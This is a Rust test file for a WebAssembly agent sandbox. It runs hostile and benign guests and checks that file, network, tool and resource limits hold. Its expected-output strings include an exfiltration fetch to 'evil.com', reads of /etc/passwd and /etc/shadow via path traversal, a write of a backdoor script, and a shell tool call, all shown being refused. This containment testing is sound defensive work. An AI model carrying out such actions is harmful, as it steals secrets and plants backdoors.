//! Real guests, built from `guest-examples/` by this crate's build script,
//! run through the library and the CLI: every hostile guest contained (host
//! tree unchanged, the loopback server saw no connection, the report names
//! the violation), every benign path works, determinism holds.

use sbx_wasm::report::Status;
use sbx_wasm::wasm::{RunOptions, Sink, WasmHost, WasmRun};
use sbx_wasm::{Capabilities, CapabilitiesBuilder, Violation};
use sbx_wasm_tests::{LoopbackServer, Node, guest, mount_tree, sbx_bin, snapshot};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

/// One engine for the whole file, as an embedder would keep it.
fn host() -> &'static WasmHost {
    static HOST: OnceLock<WasmHost> = OnceLock::new();
    HOST.get_or_init(|| WasmHost::new().unwrap())
}

/// The seed's tree for guests:
///
/// ```text
/// root/data/{data.txt,data.csv}   read mount  -> /work
/// root/out/                       write mount -> /work/out
/// root/secret.txt                 outside every mount
/// ```
struct Tree {
    dir: tempfile::TempDir,
}

const SECRET: &str = "CANARY-secret-never-leaves";

impl Tree {
    fn new() -> Self {
        let dir = mount_tree(&[
            ("data/data.txt", "revenue,42\ncost,17\n"),
            ("data/data.csv", "quarter,revenue\nQ1,10\nQ2,32\n"),
            ("secret.txt", SECRET),
        ]);
        Tree { dir }
    }
    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }
    fn caps(&self) -> CapabilitiesBuilder {
        Capabilities::builder()
            .read_mount(self.path("data"), "/work")
            .write_mount(self.path("out"), "/work/out")
            .allow_tool("word_count")
            .tool_command("word_count", vec!["wc".into(), "-w".into()])
            .max_wall(Duration::from_secs(20))
    }
    /// Everything outside the write mount.
    fn outside_out(&self) -> BTreeMap<PathBuf, Node> {
        snapshot(self.dir.path())
            .into_iter()
            .filter(|(p, _)| !p.starts_with("out"))
            .collect()
    }
}

struct Captured {
    run: WasmRun,
    stdout: String,
    stderr: String,
}

fn sink() -> (Sink, Arc<Mutex<Vec<u8>>>) {
    let buf = Arc::new(Mutex::new(Vec::new()));
    (buf.clone(), buf)
}

/// The caps' command tools, registered.
fn command_tools(caps: &Capabilities) -> sbx_wasm::tools::ToolRegistry {
    let mut tools = sbx_wasm::tools::ToolRegistry::new();
    for (name, cmd) in caps.tool_commands() {
        tools.register(name.clone(), cmd.clone());
    }
    tools
}

fn run_guest(
    name: &str,
    caps: Capabilities,
    args: &[&str],
    stdin: &[u8],
    deterministic: bool,
) -> Captured {
    let component = host().load(&guest(name)).unwrap();
    let (out, out_buf) = sink();
    let (err, err_buf) = sink();
    let mut opts = RunOptions::new(caps.clone());
    opts.program_name = name.to_string();
    opts.args = args.iter().map(|s| s.to_string()).collect();
    opts.stdin = stdin.to_vec();
    opts.stdout = out;
    opts.stderr = err;
    opts.tools = command_tools(&caps);
    opts.deterministic = deterministic;
    let run = host().run(&component, opts).unwrap();
    let text = |b: &Arc<Mutex<Vec<u8>>>| String::from_utf8_lossy(&b.lock().unwrap()).into_owned();
    Captured {
        stdout: text(&out_buf),
        stderr: text(&err_buf),
        run,
    }
}

fn assert_completed(c: &Captured) {
    assert_eq!(
        c.run.report.status,
        Status::Completed,
        "{:?} {}",
        c.run,
        c.stderr
    );
}

fn assert_halted(c: &Captured, v: Violation) {
    assert_eq!(
        c.run.report.status,
        Status::HardLimit,
        "{:?}\n{}",
        c.run,
        c.stderr
    );
    assert_eq!(c.run.report.violation, Some(v), "{:?}", c.run);
}

#[test]
fn seed_agent_sees_each_decision() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let before = t.outside_out();
    let c = run_guest(
        "seed",
        caps,
        &[&format!("{}/status", s.origin())],
        b"",
        false,
    );
    assert_completed(&c);
    let lines: Vec<&str> = c.stdout.lines().collect();
    let want = [
        "1. read /work/data.txt: ok",
        "2. read /etc/passwd: refused",
        "3. read /work/../etc/shadow: refused",
        "4. write /work/out/report.txt: ok",
        "5. write /system/backdoor.sh: refused",
        "6. fetch",
        "7. fetch http://evil.com/steal?data=secrets: refused: denied: egress_denied",
        "8. tool word_count: ok: 7",
        "9. tool shell: refused: denied: tool_denied",
    ];
    assert_eq!(lines.len(), want.len(), "{}", c.stdout);
    for (line, w) in lines.iter().zip(want) {
        assert!(line.starts_with(w), "{line:?} should start with {w:?}");
    }
    assert!(lines[5].contains("ok: HTTP 200 \"ok\""), "{}", lines[5]);
    assert_eq!(
        s.connections(),
        1,
        "only the granted fetch reached the network"
    );
    assert_eq!(t.outside_out(), before);
    assert!(
        std::fs::read_to_string(t.path("out/report.txt"))
            .unwrap()
            .contains("margin")
    );
    // The host saw and decided every action, file ones included.
    let decided: Vec<(&str, &str, Option<Violation>)> = c
        .run
        .audit
        .iter()
        .map(|e| (e.op.as_str(), e.target.as_str(), e.violation))
        .collect();
    let url = format!("{}/status", s.origin());
    assert_eq!(
        decided,
        [
            ("fs_read", "/work/data.txt", None),
            ("fs_read", "/etc/passwd", Some(Violation::FsReadDenied)),
            (
                "fs_read",
                "/work/../etc/shadow",
                Some(Violation::PathTraversal)
            ),
            ("fs_write", "/work/out/report.txt", None),
            (
                "fs_write",
                "/system/backdoor.sh",
                Some(Violation::FsWriteDenied)
            ),
            ("net_fetch", url.as_str(), None),
            (
                "net_fetch",
                "http://evil.com/steal?data=secrets",
                Some(Violation::EgressDenied)
            ),
            ("tool_call", "word_count", None),
            ("tool_call", "shell", Some(Violation::ToolDenied)),
        ]
    );
    assert_eq!(c.run.audit[5].status, Some(200));
    assert_eq!(c.run.report.usage.ops, 9);
}

#[test]
fn file_operations_count_against_max_ops_and_a_halt_stops_the_effect() {
    let t = Tree::new();
    let caps = t.caps().max_ops(3).build().unwrap();
    let c = run_guest("seed", caps, &["http://127.0.0.1:9/"], b"", false);
    assert_halted(&c, Violation::MaxOps);
    // Op 4 is the write of /work/out/report.txt: refused before WASI ran it.
    assert_eq!(c.run.audit.len(), 4);
    assert_eq!(c.run.audit[3].target, "/work/out/report.txt");
    assert!(!t.path("out/report.txt").exists());
    assert_eq!(c.stdout.lines().count(), 3, "{}", c.stdout);
}

#[test]
fn benign_agent_does_its_work() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let c = run_guest(
        "benign",
        caps,
        &[&format!("{}/status", s.origin())],
        b"",
        false,
    );
    assert_completed(&c);
    assert_eq!(c.run.report.exit_code, Some(0));
    let summary = std::fs::read_to_string(t.path("out/summary.txt")).unwrap();
    assert_eq!(summary, "rows=2 total=42 api=ok words=3\n");
    assert_eq!(c.stdout, summary);
    assert!(c.run.report.denials.is_empty());
}

#[test]
fn infinite_loop_ends_as_max_fuel_or_max_wall() {
    let t = Tree::new();
    let c = run_guest(
        "spin",
        t.caps().max_fuel(50_000_000).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxFuel);
    assert_eq!(c.run.report.usage.fuel, Some(50_000_000));
    let started = Instant::now();
    let caps = t
        .caps()
        .max_fuel(sbx_wasm::budget::LIMIT_MAX_FUEL)
        .max_wall(Duration::from_millis(300))
        .build()
        .unwrap();
    let c = run_guest("spin", caps, &[], b"", false);
    assert_halted(&c, Violation::MaxWall);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_guest_asleep_in_the_host_ends_as_max_wall() {
    let t = Tree::new();
    let started = Instant::now();
    let c = run_guest(
        "sleepy",
        t.caps()
            .max_wall(Duration::from_millis(500))
            .build()
            .unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxWall);
    assert_eq!(c.stdout, "going to sleep\n");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn deep_recursion_ends_as_stack_overflow() {
    let t = Tree::new();
    let c = run_guest("recurse", t.caps().build().unwrap(), &[], b"", false);
    assert_halted(&c, Violation::StackOverflow);
}

#[test]
fn memory_bomb_ends_as_max_memory() {
    let t = Tree::new();
    let c = run_guest(
        "membomb",
        t.caps().max_memory_bytes(64 << 20).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxMemory);
    let peak = c.run.report.usage.memory_peak_bytes.unwrap();
    assert!(peak <= 64 << 20 && peak > 16 << 20, "{peak}");
}

#[test]
fn output_flood_ends_as_max_output_bytes_with_exactly_the_budget_written() {
    let t = Tree::new();
    let c = run_guest(
        "flood",
        t.caps().max_output_bytes(10_000).build().unwrap(),
        &[],
        b"",
        false,
    );
    assert_halted(&c, Violation::MaxOutputBytes);
    assert_eq!(c.stdout.len(), 10_000);
    assert_eq!(c.run.report.usage.output_bytes, 10_000);
}

#[test]
fn probe_finds_every_escape_closed_and_only_what_was_granted() {
    let t = Tree::new();
    std::os::unix::fs::symlink("../secret.txt", t.path("out/link")).unwrap();
    std::os::unix::fs::symlink(t.path("secret.txt"), t.path("out/abs")).unwrap();
    std::fs::write(t.path("out/note.txt"), "note").unwrap();
    let s = LoopbackServer::start();
    let caps = t.caps().env("GRANTED", "yes").build().unwrap();
    let before = t.outside_out();
    // SAFETY of the probe: the host's own environment must not leak in.
    let c = run_guest(
        "probe",
        caps,
        &["--flag", &format!("127.0.0.1:{}", s.port)],
        b"hello stdin",
        false,
    );
    assert_completed(&c);
    let lines: BTreeMap<&str, &str> = c
        .stdout
        .lines()
        .filter_map(|l| l.split_once(": "))
        .collect();
    assert_eq!(
        lines["args"],
        format!(r#"["probe", "--flag", "127.0.0.1:{}"]"#, s.port)
    );
    assert_eq!(lines["env"], r#"[("GRANTED", "yes")]"#);
    assert_eq!(lines["stdin"], r#""hello stdin""#);
    for escape in [
        "read-dotdot",
        "read-abs",
        "read-sibling",
        "symlink-read",
        "symlink-abs-read",
        "symlink-write",
        "hardlink-out",
        "rename-out",
        "rename-dotdot",
        "write-ro",
        "truncate-ro",
        "remove-ro",
        "mkdir-ro",
        "socket",
    ] {
        assert!(
            lines[escape].starts_with("err"),
            "{escape} escaped: {}",
            lines[escape]
        );
    }
    assert!(
        lines["write-out"].starts_with("ok"),
        "{}",
        lines["write-out"]
    );
    assert!(!c.stdout.contains(SECRET));
    assert_eq!(
        t.outside_out(),
        before,
        "something outside the write mount changed"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("secret.txt")).unwrap(),
        SECRET
    );
    assert_eq!(s.connections(), 0, "the raw socket reached the server");
}

#[test]
fn a_panicking_guest_ends_as_trapped_with_the_message() {
    let t = Tree::new();
    let c = run_guest("panics", t.caps().build().unwrap(), &[], b"", false);
    assert_eq!(c.run.report.status, Status::Trapped, "{:?}", c.run);
    assert_eq!(c.run.report.violation, None);
    let msg = c.run.trap.as_deref().unwrap();
    assert!(msg.contains("unreachable"), "{msg}");
    assert!(c.stderr.contains("index out of bounds"), "{}", c.stderr);
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--caps",
            &write_caps(t.dir.path(), "").display().to_string(),
            guest("panics").to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(123));
    assert!(String::from_utf8_lossy(&out.stderr).contains("guest trapped"));
}

#[test]
fn deterministic_runs_are_byte_identical() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
    let url = format!("{}/status", s.origin());
    let once = || {
        // Same input: the write mount as the first run found it.
        let _ = std::fs::remove_file(t.path("out/report.txt"));
        let c = run_guest("seed", caps.clone(), &[&url], b"", true);
        (
            c.stdout,
            serde_json::to_string(&c.run.report).unwrap(),
            serde_json::to_string(&c.run.audit).unwrap(),
        )
    };
    let (a, b) = (once(), once());
    assert_eq!(a, b);
}

fn write_caps(dir: &Path, extra: &str) -> PathBuf {
    let p = dir.join("caps.toml");
    std::fs::write(
        &p,
        format!(
            "[fs]\nread = [{{ host = \"data\", guest = \"/work\" }}]\nwrite = [{{ host = \"out\", guest = \"/work/out\" }}]\n{extra}"
        ),
    )
    .unwrap();
    p
}

fn sbx(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new(sbx_bin())
        .env("SBX_WASM_CACHE_DIR", dir.join("cache"))
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn cli_run_streams_output_writes_report_and_audit_and_passes_exit_codes() {
    let t = Tree::new();
    let s = LoopbackServer::start();
    write_caps(
        t.dir.path(),
        &format!(
            "[net]\nallow = [\"{}\"]\n[tools]\nallow = [\"word_count\"]\n[tools.command.word_count]\nargv = [\"wc\", \"-w\"]\n",
            s.origin()
        ),
    );
    let seed = guest("seed");
    let url = format!("{}/status", s.origin());
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--caps",
            "caps.toml",
            seed.to_str().unwrap(),
            "--report",
            "r.json",
            "--audit",
            "a.jsonl",
            "--summary",
            "--",
            &url,
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(stdout.lines().count(), 9, "{stdout}");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("sbx-wasm: completed; 5 denials; ops 9/"),
        "{stderr}"
    );
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(t.path("r.json")).unwrap()).unwrap();
    assert_eq!(report["status"], "completed");
    assert_eq!(report["exit_code"], 0);
    assert_eq!(
        std::fs::read_to_string(t.path("a.jsonl"))
            .unwrap()
            .lines()
            .count(),
        9
    );

    // Two deterministic runs write identical report and audit bytes.
    let mut runs = Vec::new();
    for i in 0..2 {
        let (r, a) = (format!("d{i}.json"), format!("d{i}.jsonl"));
        let out = sbx(
            t.dir.path(),
            &[
                "run",
                "--deterministic",
                "--caps",
                "caps.toml",
                seed.to_str().unwrap(),
                "--report",
                &r,
                "--audit",
                &a,
                "--",
                &url,
            ],
        );
        assert_eq!(out.status.code(), Some(0));
        runs.push((
            out.stdout,
            std::fs::read(t.path(&r)).unwrap(),
            std::fs::read(t.path(&a)).unwrap(),
        ));
    }
    assert_eq!(runs[0], runs[1]);

    // A hard halt still writes the report; the exit code says so.
    write_caps(t.dir.path(), "[budget]\nmax_fuel = 10000000\n");
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--caps",
            "caps.toml",
            guest("spin").to_str().unwrap(),
            "--report",
            "r.json",
        ],
    );
    assert_eq!(out.status.code(), Some(124));
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(t.path("r.json")).unwrap()).unwrap();
    assert_eq!(report["status"], "hard_limit");
    assert_eq!(report["violation"], "max_fuel");
}

#[test]
fn cli_run_refuses_what_it_cannot_run_and_says_why() {
    let t = Tree::new();
    write_caps(t.dir.path(), "");
    std::fs::write(t.path("core.wasm"), b"\0asm\x01\0\0\0").unwrap();
    std::fs::write(t.path("text.wasm"), b"hello").unwrap();
    let alien = guest("alien");
    for (file, needle) in [
        ("missing.wasm", "cannot read missing.wasm"),
        ("core.wasm", "core WebAssembly module, not a component"),
        ("text.wasm", "not a WebAssembly file"),
        (alien.to_str().unwrap(), "alien:host/launch"),
    ] {
        let out = sbx(t.dir.path(), &["run", "--caps", "caps.toml", file]);
        assert_eq!(out.status.code(), Some(125), "{file}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle), "{file}: {err}");
    }
    write_caps(t.dir.path(), "[budget]\nmax_fuel = -1\n");
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--caps",
            "caps.toml",
            guest("seed").to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("budget.max_fuel"));
}

#[test]
fn the_second_load_does_no_compile_and_bad_entries_are_rebuilt() {
    use sbx_wasm::wasm::{ArtifactCache, CacheOutcome};
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let cache_dir = dir.path().join("cache");
    std::fs::create_dir(&cache_dir).unwrap();
    std::fs::set_permissions(&cache_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let h = WasmHost::new()
        .unwrap()
        .with_cache(ArtifactCache::open(&cache_dir).unwrap());
    assert_eq!(
        std::fs::metadata(&cache_dir).unwrap().permissions().mode() & 0o777,
        0o700
    );
    let path = guest("benign");
    let outcome = |h: &WasmHost| h.load_traced(&path).unwrap().1.unwrap();
    assert_eq!(outcome(&h), CacheOutcome::Miss);
    assert_eq!(outcome(&h), CacheOutcome::Hit);
    assert_eq!(h.cache().unwrap().compiles(), 1, "the second load compiled");
    let entries = h.cache().unwrap().list().unwrap();
    assert_eq!(entries.len(), 1);
    let entry = cache_dir.join(&entries[0].name);
    // A loaded artifact runs like a fresh compile.
    let t = Tree::new();
    let component = h.load(&path).unwrap();
    let mut opts = RunOptions::new(t.caps().build().unwrap());
    opts.stdout = sink().0;
    assert_eq!(h.run(&component, opts).unwrap().report.exit_code, Some(0));
    assert!(t.path("out/summary.txt").exists());

    // Corrupt: one flipped byte.
    let mut bytes = std::fs::read(&entry).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 0xff;
    std::fs::write(&entry, &bytes).unwrap();
    assert_eq!(outcome(&h), CacheOutcome::Rebuilt);
    assert_eq!(outcome(&h), CacheOutcome::Hit);
    // Foreign: an entry whose recorded SHA-256 matches, but which is not a
    // wasmtime artifact.
    let payload = b"definitely not machine code".to_vec();
    let sum: String = sha2_check::digest(&payload)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    std::fs::write(&entry, &payload).unwrap();
    std::fs::write(format!("{}.sha256", entry.display()), format!("{sum}\n")).unwrap();
    assert_eq!(outcome(&h), CacheOutcome::Rebuilt);
    // An entry others could have written is not trusted.
    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o666)).unwrap();
    assert_eq!(outcome(&h), CacheOutcome::Rebuilt);
    assert_eq!(h.cache().unwrap().compiles(), 4);
    assert_eq!(h.cache().unwrap().clear().unwrap(), 1);
}

/// SHA-256 for forging a cache entry in the test above, computed by the
/// system's `sha256sum` so the test does not share code with the cache.
mod sha2_check {
    pub fn digest(bytes: &[u8]) -> Vec<u8> {
        use std::io::Write;
        let mut child = std::process::Command::new("sha256sum")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(bytes).unwrap();
        let out = child.wait_with_output().unwrap();
        let hex = String::from_utf8(out.stdout).unwrap();
        (0..32)
            .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap())
            .collect()
    }
}

#[test]
fn cli_caches_compiled_components_between_runs() {
    let t = Tree::new();
    write_caps(t.dir.path(), "");
    let benign = guest("benign");
    let run = || {
        let out = sbx(
            t.dir.path(),
            &[
                "run",
                "--summary",
                "--caps",
                "caps.toml",
                benign.to_str().unwrap(),
            ],
        );
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    assert!(run().ends_with("compiled, now cached\n"));
    assert!(run().ends_with("; cached\n"));
    let out = sbx(t.dir.path(), &["cache", "ls"]);
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1);
    let out = sbx(
        t.dir.path(),
        &[
            "run",
            "--no-cache",
            "--summary",
            "--caps",
            "caps.toml",
            benign.to_str().unwrap(),
        ],
    );
    assert!(String::from_utf8_lossy(&out.stderr).ends_with("compiled, not cached\n"));
    let out = sbx(t.dir.path(), &["cache", "clear"]);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "removed 1 cached artifacts\n"
    );
    let out = sbx(t.dir.path(), &["compile", guest("spin").to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("compiled in"));
    let out = sbx(t.dir.path(), &["compile", guest("spin").to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("already cached"));
}

/// One prepared agent, many runs: each run gets its own store, grant and
/// budgets; nothing leaks from one run into the next.
fn prepared_runs_on(h: &WasmHost) {
    let agent = h.prepare(&h.load(&guest("benign")).unwrap()).unwrap();
    for _ in 0..3 {
        let t = Tree::new();
        let caps = t.caps().build().unwrap();
        let mut opts = RunOptions::new(caps.clone());
        opts.tools = command_tools(&caps);
        opts.stdout = sink().0;
        let run = h.run_prepared(&agent, opts).unwrap();
        assert_eq!(run.report.exit_code, Some(0), "{:?}", run.trap);
        assert_eq!(
            std::fs::read_to_string(t.path("out/summary.txt")).unwrap(),
            "rows=2 total=42 api=no url words=3\n"
        );
    }
    // The same prepared agent under a grant without the write mount.
    let t = Tree::new();
    let caps = Capabilities::builder()
        .read_mount(t.path("data"), "/work")
        .allow_tool("word_count")
        .tool_command("word_count", vec!["wc".into(), "-w".into()])
        .build()
        .unwrap();
    let mut opts = RunOptions::new(caps.clone());
    opts.tools = command_tools(&caps);
    opts.stdout = sink().0;
    let run = h.run_prepared(&agent, opts).unwrap();
    assert!(
        run.report
            .denials
            .iter()
            .any(|d| d.violation == Violation::FsWriteDenied),
        "{:?}",
        run.report
    );
    assert!(!t.path("out/summary.txt").exists());
}

#[test]
fn a_prepared_agent_runs_many_times_each_under_its_own_grant() {
    prepared_runs_on(host());
    // Another host's engine cannot run it: an error, not a panic.
    let other = WasmHost::new().unwrap();
    let agent = host()
        .prepare(&host().load(&guest("benign")).unwrap())
        .unwrap();
    let caps = Tree::new().caps().build().unwrap();
    let err = other
        .run_prepared(&agent, RunOptions::new(caps))
        .expect_err("ran on another host");
    assert!(
        err.to_string().contains("prepared by another WasmHost"),
        "{err}"
    );
}

#[test]
fn pooled_host_runs_guests_and_enforces_memory_from_its_slots() {
    use sbx_wasm::wasm::{Allocator, PoolSizes};
    let t = Tree::new();
    let caps = t.caps().max_memory_bytes(64 << 20).build().unwrap();
    let h = WasmHost::with_pool(PoolSizes::for_caps(&caps, 4)).unwrap();
    assert!(
        matches!(h.allocator(), Allocator::Pooling(p) if p.max_memory_bytes == 64 << 20),
        "{:?}",
        h.allocator()
    );
    prepared_runs_on(&h);
    let component = h.load(&guest("membomb")).unwrap();
    let run = h.run(&component, RunOptions::new(caps)).unwrap();
    assert_eq!(run.report.violation, Some(Violation::MaxMemory));
}

#[test]
fn a_pool_that_cannot_be_reserved_falls_back_to_on_demand() {
    use sbx_wasm::wasm::{Allocator, PoolSizes};
    let caps = Tree::new().caps().build().unwrap();
    // A billion sandboxes of 256 MiB each: more address space than exists.
    let h = WasmHost::with_pool(PoolSizes::for_caps(&caps, 1_000_000_000)).unwrap();
    assert!(
        matches!(h.allocator(), Allocator::OnDemandFallback(why) if !why.is_empty()),
        "{:?}",
        h.allocator()
    );
    prepared_runs_on(&h);
}

/// The epoch deadline reads the run's clock: advancing an injected clock
/// past the wall budget halts a spinning guest at the next epoch tick, with
/// no real time spent near the budget, and the report's wall time is the
/// clock's.
#[test]
fn the_wall_deadline_reads_the_injected_clock() {
    let t = Tree::new();
    let clock = Arc::new(sbx_wasm::ManualClock::new());
    let caps = t
        .caps()
        .max_wall(Duration::from_secs(30))
        .max_fuel(1_000_000_000_000_000)
        .build()
        .unwrap();
    let component = host().load(&guest("spin")).unwrap();
    let mut opts = RunOptions::new(caps);
    opts.clock = Some(clock.clone());
    opts.stdout = sink().0;
    opts.stderr = sink().0;
    let run = std::thread::spawn(move || host().run(&component, opts).unwrap());
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !run.is_finished(),
        "the clock has not moved: the guest spins on"
    );
    let advanced = Instant::now();
    clock.advance(Duration::from_millis(30_001));
    let run = run.join().unwrap();
    assert_eq!(
        run.report.violation,
        Some(Violation::MaxWall),
        "{:?}",
        run.report
    );
    // Ticks come every 10 ms; the real-time backstop is 30 s away.
    assert!(
        advanced.elapsed() < Duration::from_secs(10),
        "halted by the backstop, not the clock"
    );
    assert_eq!(run.report.usage.wall_ms, 30_001);
}

/// A clock slower than real time (here: stopped) never lets a guest outlive
/// the real-time backstop at `max_wall_ms`.
#[test]
fn a_stopped_clock_does_not_outlive_the_real_time_backstop() {
    let t = Tree::new();
    let caps = t
        .caps()
        .max_wall(Duration::from_millis(500))
        .max_fuel(1_000_000_000_000_000)
        .build()
        .unwrap();
    let component = host().load(&guest("spin")).unwrap();
    let mut opts = RunOptions::new(caps);
    opts.clock = Some(Arc::new(sbx_wasm::ManualClock::new()));
    opts.stdout = sink().0;
    opts.stderr = sink().0;
    let started = Instant::now();
    let run = host().run(&component, opts).unwrap();
    assert_eq!(
        run.report.violation,
        Some(Violation::MaxWall),
        "{:?}",
        run.report
    );
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "ran {:?}",
        started.elapsed()
    );
    // The neighbour: the same guest under the real clock ends the same way.
    let caps = t
        .caps()
        .max_wall(Duration::from_millis(500))
        .build()
        .unwrap();
    let mut opts = RunOptions::new(caps);
    opts.stdout = sink().0;
    opts.stderr = sink().0;
    let run = host().run(&component, opts).unwrap();
    assert!(matches!(
        run.report.violation,
        Some(Violation::MaxWall | Violation::MaxFuel)
    ));
    assert!(run.report.usage.wall_ms >= 400, "{:?}", run.report.usage);
}
